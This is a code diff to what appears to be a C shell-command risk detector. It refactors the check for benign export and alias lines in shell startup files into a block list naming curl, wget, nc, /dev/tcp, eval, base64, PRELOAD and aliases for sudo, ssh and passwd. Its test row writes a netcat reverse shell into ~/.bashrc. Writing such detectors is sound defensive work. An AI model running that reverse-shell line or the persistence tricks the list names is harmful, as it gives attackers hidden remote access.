@@ -28,6 +28,29 @@ static bool persist_boot(const struct shell_model *m, const struct shell_command
 	return !rule_is("rm rmdir mkdir", c->name) && (rule_writes(m, c) & PLACE(BOOT));
 }
 
+/* export NAME=…, or a short name for a command: what people do.  A name that hides where passwords are typed, or that
+ * runs what comes from elsewhere, is not that. */
+static bool persist_is_custom(const char *line)
+{
+	static const char *const never[] = {"PRELOAD", "HISTFILE=", "PROMPT_COMMAND",
+					    "/tmp/",   "/dev/shm",  "`"};
+	static const char *const alias[] = {"alias sudo", "alias su=", "alias ssh", "alias passwd",
+					    "curl",       "wget",      "nc ",       "ncat",
+					    "/dev/tcp",   "eval",      "base64",    "rm -",
+					    "|",          ";",         "&",         "$("};
+	bool is_alias = str_starts(line, "alias ");
+
+	if (!is_alias && !str_starts(line, "export "))
+		return false;
+	for (size_t i = 0; i < sizeof(never) / sizeof(never[0]); i++)
+		if (strstr(line, never[i]))
+			return false;
+	for (size_t i = 0; is_alias && i < sizeof(alias) / sizeof(alias[0]); i++)
+		if (strstr(line, alias[i]))
+			return false;
+	return true;
+}
+
 /* A line that only extends PATH or loads a tool is what people do. */
 static bool persist_startup(const struct shell_model *m, const struct shell_command *c)
 {
@@ -36,10 +59,7 @@ static bool persist_startup(const struct shell_model *m, const struct shell_comm
 	if (!(place & PLACE(STARTUP)) || rule_is("mkdir rm vi vim nano touch", c->name))
 		return false;
 	for (size_t i = 1; i < c->n; i++)
-		if (str_starts(c->argv[i].s, "export ") && !strstr(c->argv[i].s, "PRELOAD") &&
-		    !strstr(c->argv[i].s, "HISTFILE=") && !strstr(c->argv[i].s, "PROMPT_COMMAND") &&
-		    !strstr(c->argv[i].s, "/tmp/") && !strstr(c->argv[i].s, "/dev/shm") &&
-		    !strchr(c->argv[i].s, '`'))
+		if (persist_is_custom(c->argv[i].s))
 			return false;
 	return true;
 }
@@ -242,7 +262,7 @@ static const struct shell_rule persist_rows[] = {
 	 ROW(0.4, LOW),
 	 .test = persist_startup,
 	 .hit = "echo 'nc -e sh 192.0.2.1 1 &' >> ~/.bashrc",
-	 .miss = "echo 'export EDITOR=vi' >> ~/.bashrc"},
+	 .miss = "echo \"alias ll='ls -la'\" >> ~/.bashrc"},
 	{.id = "CMD-AUTHORIZED-KEYS",
 	 .reason = "It lets a key log in.",
 	 ROW(0.7, MEDIUM),
